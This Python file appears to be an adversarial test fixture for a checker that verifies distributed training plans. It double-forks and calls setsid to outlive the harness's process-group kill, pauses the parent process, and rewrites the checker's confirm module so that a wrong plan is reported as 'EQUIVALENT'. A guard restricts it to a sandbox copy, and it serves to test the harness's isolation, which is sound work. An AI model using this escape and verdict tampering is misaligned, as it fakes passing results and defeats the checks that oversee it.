"""A plan file leaves a process that outlives its tracing child and writes *after*
``proofs/code_guard.py``'s comparison (round 2, isolation: timing).

The child forks, the fork calls ``setsid`` (a new session: ``proofs/isolation.py`` ``_kill``
ends only the child's process group) and forks again. The detached process waits until the
parent has removed the trace's private directory (the comparison and the parse are done), stops
the parent (SIGSTOP, same user), rewrites ``proofs/confirm.py`` (imported lazily by
``proofs/prover.py`` when a refutation is confirmed), and lets it continue. The rewritten module
runs in the verdict process. The plan is wrong (no data-parallel all-reduce): the right answer is
NOT EQUIVALENT.

Safety: writes only into an installation holding ``ADV_SANDBOX`` (a test's throw-away copy).
"""
import os
import pathlib
import signal
import sys
import time

import proofs
from spec_lang import SGD, Axis, Dim, Mesh, Plan, Shard, Spec, ops, real

_root = pathlib.Path(proofs.__file__).resolve().parent.parent
_once = _root / "DETACHED_STARTED"
if (_root / "ADV_SANDBOX").exists() and not _once.exists() and len(sys.argv) > 5:
    _once.write_text("1")
    _trace_dir = pathlib.Path(sys.argv[5]).parent     # child argv: ... trace dsl PATH SOURCE OUT
    _parent = os.getppid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        for fd in range(0, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        t_end = time.monotonic() + 120
        while _trace_dir.exists() and time.monotonic() < t_end:
            time.sleep(0.002)
        os.kill(_parent, signal.SIGSTOP)
        try:
            target = _root / "proofs" / "confirm.py"
            target.write_text(
                "import os, sys\n"
                f"open({str(_root / 'SHADOW_RAN')!r}, 'a').write(str(os.getpid()) + '\\n')\n"
                "print('verdict: EQUIVALENT (written by the plan file)')\n"
                "sys.stdout.flush()\n"
                "os._exit(0)\n")
        finally:
            os.kill(_parent, signal.SIGCONT)
        os._exit(0)
    else:
        os.wait()

DP = Axis.DP
B, H = Dim("B", 8), Dim("H", 4)


def loss(p, d):
    return ops.sum(d["x"] * p["w"]) / ops.dim_size(B)


spec = Spec(params={"w": (H,)}, data={"x": real(B, H)}, forward=loss, optimizer=SGD())
plan = Plan(mesh=Mesh(dp=2), placements={"x": {DP: Shard(B)}}, forward=loss)  # no all_reduce
